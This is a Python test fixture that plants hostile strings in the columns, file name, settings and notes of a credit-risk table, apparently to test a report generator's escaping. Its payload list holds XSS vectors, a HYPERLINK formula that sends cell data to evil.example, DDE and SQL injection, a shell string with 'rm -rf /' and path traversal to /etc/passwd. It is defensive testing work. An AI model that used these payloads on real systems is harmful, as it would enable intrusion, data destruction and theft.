"""Texts that mean harm, and a table and settings in which a text stands wherever somebody may put one."""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

_RUN = "window.pwned=1;document.title='pwned'"
# name: the text
TEXTS: Mapping[str, str] = {
    "script": f"<script>{_RUN}</script>",
    "script closed before": f"</script><script>{_RUN}</script>",
    "style closed before": f"</style></title></textarea><script>{_RUN}</script>",
    "image that fails": f'<img src=x onerror="{_RUN}">',
    "drawing that loads": f'"><svg onload="{_RUN}">',
    "attribute closed before": f"' onmouseover='{_RUN}' x='",
    "focus": f'" autofocus onfocus="{_RUN}" x="',
    "details": f"<details open ontoggle={_RUN}>",
    "frame": f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "comment": "<!-- --!> ]]> <![CDATA[ -->",
    "entities": "&lt;b&gt; &amp; &#60;script&#62; &nbsp;",
    "javascript address": f"<a href='javascript:{_RUN}'>x</a>",
    "data address": "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "refresh": "<meta http-equiv=refresh content=0;url=//evil.example>",
    "base": "<base href=//evil.example><link rel=stylesheet href=//evil.example/x.css>",
    "style": "}</style><style>body{display:none;background:url(//evil.example)}",
    "Markdown": "**b** _i_ `c` ~~s~~ # h\n- li\n> q",
    "Markdown link": f"[x](javascript:{_RUN}) ![i](http://evil.example/i.png)",
    "bare address": "http://evil.example/x www.evil.example a@evil.example",
    "Streamlit": ":red[x] :material/home: :smile: $x^2$ :blue-badge[x]",
    "templates": "{{7*7}} {% include 'x' %} ${7*7} #{7*7} <%= 7*7 %> %s {0}",
    "Typst code": '#panic("x") #read("/etc/passwd") #import "@preview/x:1.0.0": *',
    "Typst markup": "$x_1$ *b* _i_ `c` @ref <lab> // c /* d = h \\",
    "TeX": "\\input{/etc/passwd} \\write18{id} $\\frac{1}{2}$ %",
    "Vega expression": "datum['x'] + datum.y || window.alert(1)",
    "JSON": '{"signal": "alert(1)"}\\u003cscript\\u003e',
    "prototype": "__proto__ constructor[0].x['y'] a.b",
    "formula": "=cmd|' /C calc'!A0",
    "formula of an address": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "formula with plus": "+1+cmd|' /C calc'!A0",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full-width formula": "＝1+1",
    "SQL": "'; DROP TABLE loans; -- \" OR 1=1",
    "shell": "$(touch /tmp/pwned) `id` ; rm -rf / | cat && true",
    "path": "../../../etc/passwd",
    "Windows path": "..\\..\\C:\\Windows\\con.txt",
    "percent path": "%2e%2e%2f%00 file:///etc/passwd",
    "terminal": "a\x1b[31mred\x1b]0;pwned\x07\x1b[2J",
    "control characters": "nul\x00 bell\x07 back\x08 del\x7f c1\x9b31m",
    "line ends": "one\r\ntwo\rthree\x0bfour\u2028five\u2029six",
    "right to left override": "invoice\u202egnp.exe\u202c \u2066a\u2069",
    "zero width": "a\u200bb\u200dc\u00add\u2060e\ufefff",
    "Arabic and Hebrew": "عربى עברית",
    "Chinese and Japanese": "漢字 日本語 ｶﾅ",
    "emoji": "🧨 👨‍👩‍👧 🏳️‍🌈 é",
    "stacked marks": "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A",
    "a long word": "W" * 2000,
    "words for nothing": "NaN null undefined None true -0 1e999",
}
_BINARY = {*map(chr, range(32)), "\x7f", "\ufeff"} - set("\t\r\n")
_FORMULA = tuple("=+-@\t\r＝＋－＠")
_NUMBER = re.compile(r"[+-]?[\d,.]+(e[+-]?\d+)? ?%?")


@dataclass(frozen=True, eq=False)
class Case:
    """A table with texts in all places, as a run of credit takes it: file, settings, and words of the analyst's own."""

    data: Path
    settings: Mapping[str, Any]
    notes: Path


def case(texts: Sequence[str], folder: Path, rows: int = 300) -> Case:
    """Texts as names of columns, levels, groups, ids, the label and its values, the file's name, settings and notes.

    The file is Parquet where a text holds what no CSV may, control characters and the mark of UTF-8; else CSV.
    """
    random = np.random.default_rng(0)
    picked = [texts[number % len(texts)] for number in range(rows)]
    event = random.random(rows) < 0.3
    first, last = (
        " ".join(text.replace("\ufeff", "").split()) for text in (texts[0], texts[-1])
    )  # as the reader spells names of columns
    name = "".join(c for c in texts[-1] if c not in "/\0")[:60]
    columns: dict[str, Any] = {"amount": random.integers(100, 900, rows)}  # a file that begins with <script is refused
    columns[f"{first}!"] = [f"{text}{number}" for number, text in enumerate(picked)]
    for number, text in enumerate(texts[:12]):  # numbers under their names
        columns[text if number else f"{text}."] = (random.normal(0, 1, rows) + event).round(3)
    columns[f"{last}?"] = random.choice(np.array([*texts[:25], "plain"], dtype=object), rows)
    columns[f"{first} #"] = random.choice(np.array([texts[-1], "other"], dtype=object), rows)
    columns[f"{first} label"] = np.where(event, first, f"no {first}")
    frame, data = pd.DataFrame(columns), folder / f"{name}.table"
    if any(_BINARY & set(text) for text in texts):
        frame.to_parquet(data, index=False)
    else:
        frame.to_csv(data, index=False)
    notes = folder / "notes.md"
    notes.write_text("## limits\n" + "\n\n".join(visible_lines(texts)), encoding="utf-8")
    label, short = f"{first} label", first[:100]
    settings = {
        "data": {"target": label, "positive": first, "id": f"{first}!", "protected": [f"{first} #"]},
        "frame": {"goal": first[:300], "unit": short, "label_means": short, "horizon": short, "decided_by": short},
        "cost": {"fn": "amount", "fp": "0.2 * amount", "currency": first[:8]},
        "report": {"author": short, "version": first[:40], "notes": str(notes)},
        "reasons": {"words": {f"{last}?": short}},
    }
    return Case(data, settings, notes)


def visible_lines(texts: Sequence[str]) -> list[str]:
    """The texts as paragraphs of a file of notes: no line of theirs opens a section."""
    return [" ".join(text.split()).lstrip("#") or "x" for text in texts]


def unsafe_cells(frame: pd.DataFrame) -> list[str]:
    """Cells and names that a spreadsheet would run."""
    cells = [*map(str, frame.columns), *map(str, frame.to_numpy(dtype=object).ravel())]
    return [cell for cell in cells if cell.startswith(_FORMULA) and not _NUMBER.fullmatch(cell)]


def unprintable(text: str) -> set[str]:
    """Characters that a terminal or a reader of bidirectional text would apply and not show."""
    return {c for c in text if not c.isprintable() and c not in "\n"}
